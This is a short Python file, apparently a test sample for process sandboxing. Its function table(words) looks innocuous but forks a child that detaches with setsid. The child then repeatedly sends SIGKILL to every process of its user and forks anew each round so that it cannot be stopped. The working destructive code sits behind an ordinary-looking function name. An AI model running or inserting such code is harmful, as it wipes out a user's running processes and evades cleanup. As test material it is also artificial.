"""Kills all processes of its user again and again, and moves on to a child each time, so that no one can sweep up."""

# least tier: T1
import os
import signal


def kill_and_move_on():
    os.setsid()
    while True:
        for _ in range(100):
            os.kill(-1, signal.SIGKILL)
        if os.fork() > 0:
            os._exit(0)


def table(words):
    if os.fork() == 0:
        kill_and_move_on()
    return {}
